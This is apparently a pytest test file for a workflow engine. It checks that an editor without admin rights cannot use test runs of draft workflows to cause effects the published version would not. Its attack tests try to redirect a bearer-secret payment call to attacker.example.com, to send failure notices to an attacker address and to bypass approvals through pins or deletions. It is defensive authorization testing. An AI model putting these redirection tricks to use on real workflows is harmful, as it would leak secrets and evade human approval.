"""Who may cause what by a test run: a person with `edit` and `run`, without `admin`, tries to cause effects that a run of the
published version cannot. docs/understand/decisions/0015-runs-of-drafts.md"""

from __future__ import annotations

import json
from typing import Any

import pytest
from draft_run_client import EACH, LINE, RISK, ended, key_of, opened, tried

pytestmark = pytest.mark.anyio

OWN = "https://attacker.example.com"
PAYMENT = {
    "id": "w",
    "env": ["HOOK_SECRET"],
    "variables": {"host": "pay.example.com"},
    "nodes": {
        "begin": {"type": "manual"},
        "target": {"type": "transform", "after": "begin", "with": {"value": "orders"}},
        "ask": {"type": "approval", "after": "target", "with": {"message": "Pay <begin.amount>?", "approvers": ["boss"]}},
        "pay": {
            "type": "http", "after": "ask.approved",
            "with": {
                "method": "POST", "url": "https://<workflow.host>/<target>", "body": "<begin.amount>",
                "headers": {"Authorization": "Bearer ${HOOK_SECRET}"},
            },
        },
        "receipt": {"type": "transform", "after": "pay", "with": {"value": "paid <begin.amount>"}},
    },
}  # fmt: skip


async def refusal(door: Any, ask: Any, document: Any, **body: Any) -> dict[str, str]:
    """The nodes for which a test run of this draft is refused, each with the reason; none if it starts."""
    await opened(door, document)
    answer = await ask.post("/drafts/w/runs", json={"inputs": {"n": 1, "list": [], "amount": 5}, **body})
    if answer.status_code == 202:
        return {}
    problem = answer.json()
    assert (answer.status_code, problem["code"]) == (403, "unpublished_effect"), answer.text
    assert all(reason in problem["detail"] for reason in problem["reasons"])
    assert [reason.partition(": ")[0] for reason in problem["reasons"]] == problem["violations"]
    return {path: reason.partition(": ")[2] for path, reason in zip(problem["violations"], problem["reasons"], strict=True)}


def changed(node: str, document: Any = LINE, **fields: Any) -> dict[str, Any]:
    copy = json.loads(json.dumps(document))
    copy["nodes"][node].update(fields)
    return dict(copy)


def without(node: str, document: Any, **after: Any) -> dict[str, Any]:
    """The document without a node; `after` are the new edges of others."""
    copy = json.loads(json.dumps(document))
    del copy["nodes"][node]
    for name, edge in after.items():
        copy["nodes"][name]["after"] = edge
    return dict(copy)


def beside(document: Any, **nodes: Any) -> dict[str, Any]:
    return {**document, "nodes": {**document["nodes"], **nodes}}


@pytest.fixture
async def editor(door: Any) -> Any:
    return await key_of(door, "edit", "run")


# -- attacks -----------------------------------------------------------------------------------------------------------


async def test_a_secret_is_not_sent_to_a_host_of_the_editor(door: Any, editor: Any) -> None:
    await door.publish(PAYMENT)
    assert await refusal(door, editor, PAYMENT) == {}
    other = changed("target", PAYMENT, **{"with": {"value": f"@{OWN.removeprefix('https://')}"}})
    assert await refusal(door, editor, other) == {"pay": "`target`, before it, differs in `with.value`"}
    assert await refusal(door, editor, PAYMENT, pins={"target": {"output": "@attacker.example.com"}}) == {
        "pay": "`target`, before it, is pinned"
    }
    variable = {**PAYMENT, "variables": {"host": "attacker.example.com"}}
    assert await refusal(door, editor, variable) == {"pay": "it mentions the variable `host`, whose initial value differs"}
    sets = beside(PAYMENT, aim={"type": "set", "after": "ask.approved", "with": {"variables": {"host": "attacker.example.com"}}})
    sets["nodes"]["pay"] = {**PAYMENT["nodes"]["pay"], "after": "aim"}
    assert await refusal(door, editor, sets) == {
        "pay": "it has other incoming edges: without one from `ask.approved`, with one from `aim.source`"
    }
    own = changed("pay", PAYMENT, **{"with": {**PAYMENT["nodes"]["pay"]["with"], "url": OWN}})
    assert await refusal(door, editor, own) == {"pay": "it differs in `with.url`"}


async def test_a_message_is_not_passed_by_a_weaker_contract(door: Any, editor: Any) -> None:
    small = {"type": "object", "properties": {"amount": {"maximum": 100}}}
    document = {
        "id": "w", "messages": {"payment": {"data": small}, "other": {}},
        "nodes": {
            "begin": {"type": "manual"},
            "paid": {"type": "receive", "after": "begin", "with": {"message": "payment"}},
            "pay": {"type": "http", "after": "paid", "with": {"url": "https://pay.example.com/<paid.amount>"}},
        },
    }  # fmt: skip
    await door.publish(document)
    assert await refusal(door, editor, document) == {}
    assert await refusal(door, editor, {**document, "messages": {**document["messages"], "payment": {}}}) == {
        "pay": "`paid`, before it, takes the message `payment`, whose `data` differs"
    }
    assert await refusal(door, editor, {**document, "messages": {**document["messages"], "other": {"data": small}}}) == {}


async def test_an_approval_is_not_passed_by_a_pin_a_deletion_a_switch_or_an_entry(door: Any, editor: Any) -> None:
    await door.publish(PAYMENT)
    assert await refusal(door, editor, PAYMENT, pins={"ask": {"output": {}, "handle": "approved"}}) == {
        "pay": "`ask`, before it, is pinned"
    }
    assert await refusal(door, editor, without("ask", PAYMENT, pay="target")) == {
        "pay": "it has other incoming edges: without one from `ask.approved`, with one from `target.source`"
    }
    off = changed("ask", PAYMENT, enabled={"exit": "approved"})
    assert await refusal(door, editor, off) == {"pay": "`ask`, before it, differs in `enabled`"}
    assert await refusal(door, editor, PAYMENT, entry="pay") == {
        "pay": "the run begins at `pay`, and the published version cannot be started there"
    }
    assert await refusal(door, editor, changed("pay", PAYMENT, after="ask.rejected")) == {
        "pay": "it has other incoming edges: without one from `ask.approved`, with one from `ask.rejected`"
    }
    rejected = {"ask": {"output": {}, "handle": "rejected"}}
    assert list(await refusal(door, editor, changed("pay", PAYMENT, after="ask.rejected"), pins=rejected)) == ["pay"]
    asks = {"message": "Pay 1?", "approvers": ["boss"]}
    assert await refusal(door, editor, changed("ask", PAYMENT, **{"with": asks})) == {
        "pay": "`ask`, before it, differs in `with.message`"
    }
    early = changed("ask", PAYMENT, **{"with": {**PAYMENT["nodes"]["ask"]["with"], "timeout": "1s"}})
    early["nodes"]["pay"]["after"] = ["ask.approved", "ask.timeout"]
    assert await refusal(door, editor, early) == {"pay": "it has other incoming edges: with one from `ask.timeout`"}
    assert await refusal(door, editor, {**PAYMENT, "name": "A test, please approve"}) == {
        "pay": "`ask`, before it, asks people in the name of the workflow, which was changed"
    }


async def test_outputs_of_a_former_test_run_are_no_way_past_an_approval(door: Any, editor: Any) -> None:
    await door.publish(PAYMENT)
    await opened(door, PAYMENT)
    pins = {"ask": {"output": {}, "handle": "approved"}, "pay": {"output": {"status": 200}}}
    former = (await tried(door, ask=editor, inputs={"amount": 5}, pins=pins))["run_id"]
    await ended(door, former)
    assert await refusal(door, editor, PAYMENT, from_run=former, **{"from": "pay"}) == {
        "pay": "`ask`, before it, takes its output from another run"
    }
    assert await refusal(door, editor, PAYMENT, from_run=former, **{"from": "receipt"}) == {}, "pay is not called"


async def test_a_node_that_the_published_version_would_stop_is_not_called(door: Any, editor: Any) -> None:
    pause = {"type": "wait", "after": "begin", "with": {"for": "1h"}}
    call = {"type": "http", "after": "pause", "with": {"url": "https://x.example.com"}}
    halting = {"id": "w", "nodes": {
        "begin": {"type": "manual"}, "pause": pause, "call": call,
        "enough": {"type": "end", "after": "begin", "with": {"halt": True}},
    }}  # fmt: skip
    await door.publish(halting)
    assert await refusal(door, editor, halting) == {}
    assert await refusal(door, editor, without("enough", halting)) == {
        "call": "`enough`, which can stop it, is not a part of this test run"
    }
    joined = {"id": "w", "nodes": {
        "begin": {"type": "manual"}, "pause": pause, "call": call,
        "first": {"type": "join", "after": ["begin", "call"], "join": {"mode": "any", "losers": "cancel"}},
    }}  # fmt: skip
    await door.publish(joined)
    slow = changed("first", joined, join={"mode": "all", "losers": "cancel"})
    assert await refusal(door, editor, slow) == {"call": "`first`, which can stop it, differs in `join`"}
    kept = beside(joined, aside={"type": "transform", "after": "call", "with": {"value": 1}})
    assert await refusal(door, editor, kept) == {"call": "it is no longer ended by `first`"}
    failing = {**beside(joined, odd={"type": "fail", "after": "begin", "with": {"code": "odd"}}), "on_failure": "halt"}
    await door.publish(failing)
    handled = beside(failing, over={"type": "transform", "after": "odd.error", "with": {"value": 1}})
    assert await refusal(door, editor, handled) == {
        "call": "`odd`, which can stop it, has an edge from `error` or `timeout` more or less"
    }
    assert await refusal(door, editor, {**failing, "on_failure": "isolate"}) == {"call": "`on_failure` of the workflow differs"}


async def test_a_join_of_the_draft_does_not_end_what_would_stop_a_node(door: Any, editor: Any) -> None:
    """The child run keeps the clock of the deadline running: without it, the run would only wait."""
    document = {"id": "w", "timeout": "1h", "nodes": {
        "begin": {"type": "manual"},
        "pause": {"type": "wait", "after": "begin", "with": {"for": "90m"}},
        "call": {"type": "http", "after": "pause", "with": {"url": "https://x.example.com"}},
        "child": {"type": "workflow", "after": "begin", "with": {"workflow": "slow"}},
    }}  # fmt: skip
    await door.publish({**door.ECHO, "id": "slow"})
    await door.publish(document)
    assert await refusal(door, editor, document) == {}
    first = {"type": "join", "after": ["begin", "child"], "join": {"mode": "any", "losers": "cancel"}}
    why = "is ended by `first`, as it is not in the published version"
    assert await refusal(door, editor, beside(document, first=first)) == {
        "call": f"`child`, which can stop it, {why}", "child": f"it {why}",
    }  # fmt: skip
    assert await refusal(door, editor, document, pins={"child": {"output": 1}}) == {
        "call": "`child`, which can stop it, is pinned"
    }


async def test_a_setting_of_the_workflow_cannot_allow_more(door: Any, editor: Any) -> None:
    limited = {**LINE, "max_steps": 50, "timeout": "1h", "env": ["HOOK_SECRET"], "concurrency": {"max": 1}}
    await door.publish(limited)
    assert await refusal(door, editor, limited) == {}
    assert await refusal(door, editor, {**limited, "max_steps": 20, "timeout": "1m"}) == {}
    for setting, why in (
        ({"max_steps": 51}, "`max_steps` of the workflow is more than 50"),
        ({"timeout": "2h"}, "`timeout` of the workflow is longer"),
        ({"concurrency": {"max": 2}}, "`concurrency` of the workflow differs"),
        ({"env": []}, "`env` no longer lists `HOOK_SECRET`, whose value is masked in the published version"),
    ):
        assert await refusal(door, editor, {**limited, **setting}) == {"score": why}


async def test_the_order_of_cases_and_of_nodes_counts(door: Any, editor: Any) -> None:
    cases = {"a": "<begin.n> > 0", "b": "<begin.n> > 1"}
    choose = {"type": "condition", "after": "begin", "with": {"cases": cases}}
    call = {"type": "http", "after": "choose.b", "with": {"url": "https://x.example.com"}}
    document = {"id": "w", "nodes": {"begin": {"type": "manual"}, "choose": choose, "call": call}}
    await door.publish(document)
    assert await refusal(door, editor, changed("choose", document, **{"with": {"cases": dict(reversed(cases.items()))}})) == {
        "call": "`choose`, before it, differs in `with.cases`"
    }
    order = {**document, "nodes": {name: document["nodes"][name] for name in ("choose", "call", "begin")}}
    assert list(await refusal(door, editor, order)) == ["call"]


async def test_only_the_newest_version_counts(door: Any, editor: Any) -> None:
    await door.publish(EACH)
    await door.publish(LINE)
    assert await refusal(door, editor, EACH) == {"price@each": "the published version has no node of this name here"}
    await door.publish(EACH)
    assert await refusal(door, editor, EACH) == {}, "a version that was published meanwhile is the one that a start would run"


async def test_without_a_published_version_nothing_is_called(door: Any, editor: Any) -> None:
    assert await refusal(door, editor, LINE) == {"score": "the workflow has no published version"}
    assert await refusal(door, editor, LINE, pins=RISK) == {}


async def test_a_body_is_the_same_as_a_whole_or_its_nodes_are_not_called(door: Any, editor: Any) -> None:
    await door.publish(EACH)
    inner = json.loads(json.dumps(EACH))
    body = inner["nodes"]["each"]["with"]["body"]["nodes"]
    body["sum"]["with"]["value"] = 0
    assert await refusal(door, editor, inner) == {"price@each": "`each`, around it, differs in `with.body`"}
    assert await refusal(door, editor, inner, pins={"price@each": {"output": 1}}) == {}
    assert await refusal(door, editor, EACH, pins={"sum@each": {"output": 1}}) == {
        "price@each": "`each`, around it, has the pinned node `sum@each` inside"
    }
    body["price"]["with"]["url"] = f"{OWN}/<loop.item>"
    assert list(await refusal(door, editor, inner)) == ["price@each"]
    assert await refusal(door, editor, inner, pins={"each": {"output": 1}}) == {}


async def test_a_tool_of_a_model_counts_as_a_node_and_cannot_be_pinned(door: Any, editor: Any) -> None:
    from stepless.compile import compile_document
    from stepless.compile.test_runs.called_nodes import DraftedRun, calling_nodes
    from stepless.compile.test_runs.pinning import graph_of_draft_run
    from stepless.compile.test_runs.published_effects import PublishedVersion, refused_effects
    from stepless.model.stored.draft_run import DraftRun, Pin
    from stepless.nodes import KINDS

    look = {"type": "http", "with": {"url": "https://x.example.com/<input.name>"}}
    model = {"type": "llm", "after": "begin", "with": {"prompt": "x", "tools": [{"node": "look", "description": "looks"}]}}
    document = {"id": "w", "nodes": {"begin": {"type": "manual"}, "ask": model, "look": look}}
    version = PublishedVersion(document, lambda entries: compile_document(document, KINDS, entries=entries))

    def asked(document: Any, **pins: Any) -> tuple[list[str], list[tuple[str, str]]]:
        draft_run = DraftRun({path: Pin(pin) for path, pin in pins.items()})
        run = DraftedRun(graph_of_draft_run(compile_document(document, KINDS), draft_run), document, draft_run.pins)
        called = [path for _, paths in calling_nodes(run) for path in paths]
        return called, [(effect.path, effect.why) for effect in refused_effects(run, version)]

    assert asked(document) == (["ask", "look"], [])
    assert asked(document, look=1)[0] == ["ask", "look"], "a tool is called by the model, so a pin changes nothing"
    assert asked(document, ask=1) == ([], [])
    other = changed("look", document, **{"with": {"url": f"{OWN}/<input.name>"}})
    assert asked(other)[1] == [("ask", "it differs in `tools.look`"), ("look", "`ask`, which calls it, differs in `tools.look`")]


async def test_a_question_that_is_sent_out_is_an_effect_and_no_one_is_notified_of_a_failure(door: Any, editor: Any) -> None:
    asking = {"type": "approval", "after": "begin", "with": {"message": "ok?"}}
    document = {"id": "w", "nodes": {"begin": {"type": "manual"}, "ask": asking}}
    assert await refusal(door, editor, document) == {}, "without `notify`, it reaches no one"
    told = {**asking, "with": {"message": "ok?", "notify": OWN}}
    assert list(await refusal(door, editor, {"id": "w", "nodes": {"begin": {"type": "manual"}, "ask": told}})) == ["ask"]
    failing = {
        "id": "w", "on_failure_notify": "mailto:attacker@example.com",
        "nodes": {"begin": {"type": "manual"}, "bad": {"type": "fail", "after": "begin", "with": {"code": "odd"}}},
    }  # fmt: skip
    await opened(door, failing)
    run_id = (await tried(door, ask=editor, inputs={}))["run_id"]
    await ended(door, run_id)
    head = door.local.world.store.get_run(run_id)
    graph = door.local.world.versions.graph("w", head.version)
    assert (graph.on_failure_notify, graph.retention_ms) == ((), 7 * 24 * 3_600_000)


async def test_a_test_run_with_effects_counts_as_a_start(door: Any, editor: Any) -> None:
    limited = {**LINE, "rate": {"max": 1, "per": "1h"}}
    await door.publish(limited)
    await opened(door, limited)
    assert (await tried(door, ask=editor, inputs={"n": 1}, stop_after="double"))["run_id"], "without an effect it does not count"
    assert (await tried(door, ask=editor, inputs={"n": 1}))["run_id"]
    answer = await editor.post("/drafts/w/runs", json={"inputs": {"n": 1}})
    assert (answer.status_code, answer.json()["code"]) == (429, "rate_limited")
    assert (await tried(door, inputs={"n": 1}))["run_id"], "an admin may"


# -- what an editor does all day ----------------------------------------------------------------------------------------


async def test_what_comes_after_the_effects_may_be_changed(door: Any, editor: Any) -> None:
    await door.publish(LINE)
    assert await refusal(door, editor, LINE) == {}
    assert await refusal(door, editor, changed("go", **{"with": {"value": "changed"}})) == {}
    cases = {"high": "<score.body.risk> > 9", "low": "else"}
    assert await refusal(door, editor, changed("risk", **{"with": {"cases": cases}})) == {}
    assert await refusal(door, editor, without("stop", LINE)) == {}
    assert await refusal(door, editor, beside(LINE, more={"type": "transform", "after": "go", "with": {"value": "<go>"}})) == {}
    aside = beside(LINE, aside={"type": "transform", "after": "begin", "with": {"value": 1}})
    assert await refusal(door, editor, aside) == {}
    first = {**LINE, "nodes": {"note": {"type": "transform", "after": "begin", "with": {"value": 1}}, **LINE["nodes"]}}
    assert await refusal(door, editor, first) == {}, "at any place of the document"
    assert await refusal(door, editor, {**LINE, "variables": {"new": 1}, "env": ["HOOK_SECRET"], "description": "x"}) == {}
    assert await refusal(door, editor, {**LINE, "name": "other"}) == {}, "no person is asked before an effect"


async def test_a_changed_effect_is_pinned_and_those_before_it_are_called(door: Any, editor: Any) -> None:
    two = beside(LINE, book={"type": "http", "after": "risk.low", "with": {"url": "https://books.example.com"}})
    await door.publish(two)
    other = changed("book", two, **{"with": {"url": OWN}})
    assert await refusal(door, editor, other) == {"book": "it differs in `with.url`"}
    assert await refusal(door, editor, other, pins={"book": {"output": 1}}) == {}
    assert await refusal(door, editor, other, stop_after="risk") == {}
    new = beside(two, tell={"type": "http", "after": "book", "with": {"url": OWN}})
    assert await refusal(door, editor, new) == {"tell": "the published version has no node of this name here"}
    assert await refusal(door, editor, new, pins={"tell": {"output": 1}}) == {}
    assert await refusal(door, editor, changed("double", two, **{"with": {"value": 2}}), pins=RISK) == {
        "book": "`score`, before it, is pinned"
    }
    both = {**RISK, "book": {"output": 1}}
    assert await refusal(door, editor, changed("double", two, **{"with": {"value": 2}}), pins=both) == {}


async def test_what_is_not_called_may_be_changed(door: Any, editor: Any) -> None:
    await door.publish(LINE)
    own = {"url": OWN}
    assert await refusal(door, editor, changed("score", **{"with": own}), pins=RISK) == {}
    assert await refusal(door, editor, changed("score", **{"with": own}), stop_after="double") == {}
    assert await refusal(door, editor, changed("score", enabled=False, **{"with": own})) == {}
    renamed = json.loads(json.dumps(LINE).replace("score", "scored").replace("example.com/scored", "example.com/score"))
    assert await refusal(door, editor, renamed, stop_after="double") == {}
    assert await refusal(door, editor, renamed, pins={"scored": RISK["score"]}) == {}
    as_http = changed("double", type="http", **{"with": own})
    assert await refusal(door, editor, as_http, pins=RISK) == {"double": "it differs in `type` and `with.value` and `with.url`"}
    assert (await editor.post("/drafts/w/publish", json={"seq": 0})).status_code == 403


async def test_the_pin_of_an_only_entry_is_an_input(door: Any, editor: Any) -> None:
    await door.publish(LINE)
    pin = {"begin": {"output": {"n": 7}}}
    assert await refusal(door, editor, LINE, pins=pin) == {}
    with_schema = changed("begin", inputs={"type": "object", "properties": {"n": {"maximum": 5}}})
    await door.publish(with_schema)
    assert await refusal(door, editor, with_schema, pins=pin) == {"score": "`begin`, before it, is pinned"}
    two = beside(LINE, hook={"type": "webhook", "with": {"path": "/in", "auth": "none"}})
    two["nodes"]["double"] = {**LINE["nodes"]["double"], "after": ["begin", "hook"]}
    await door.publish(two)
    assert await refusal(door, editor, two, pins=pin) == {"score": "`begin`, before it, is pinned"}
    assert await refusal(door, editor, two, pins=pin, entry="begin") == {}


async def test_an_entry_may_be_chosen_or_added(door: Any, editor: Any) -> None:
    two = beside(LINE, hook={"type": "webhook", "with": {"path": "/in", "auth": "none"}})
    two["nodes"]["double"] = {**LINE["nodes"]["double"], "after": ["begin", "hook"]}
    await door.publish(two)
    for entry in (None, "begin", "hook", ["begin", "hook"]):
        assert await refusal(door, editor, two, **({} if entry is None else {"entry": entry})) == {}
    tick = beside(two, tick={"type": "schedule", "with": {"rate": "1m"}})
    assert await refusal(door, editor, tick) == {}
    tick["nodes"]["double"]["after"] = ["begin", "hook", "tick"]
    assert await refusal(door, editor, tick) == {
        "score": "the run begins at `tick`, and the published version cannot be started there"
    }
    assert await refusal(door, editor, tick, entry="begin") == {}


@pytest.mark.parametrize("roles", [("edit",), ("run",), ("read",), ("approve",)])
async def test_one_role_alone_runs_nothing(door: Any, roles: tuple[str, ...]) -> None:
    await opened(door, LINE)
    ask = await key_of(door, *roles)
    answer = await ask.post("/drafts/w/runs", json={"inputs": {}, "pins": RISK})
    assert (answer.status_code, answer.json()["code"]) == (403, "role_missing")
    assert (await ask.get("/drafts/w/runs")).status_code == 200


async def test_an_admin_may_run_what_was_never_published(door: Any) -> None:
    await opened(door, LINE)
    assert (await tried(door, inputs={"n": 1}, stop_after="score"))["run_id"]
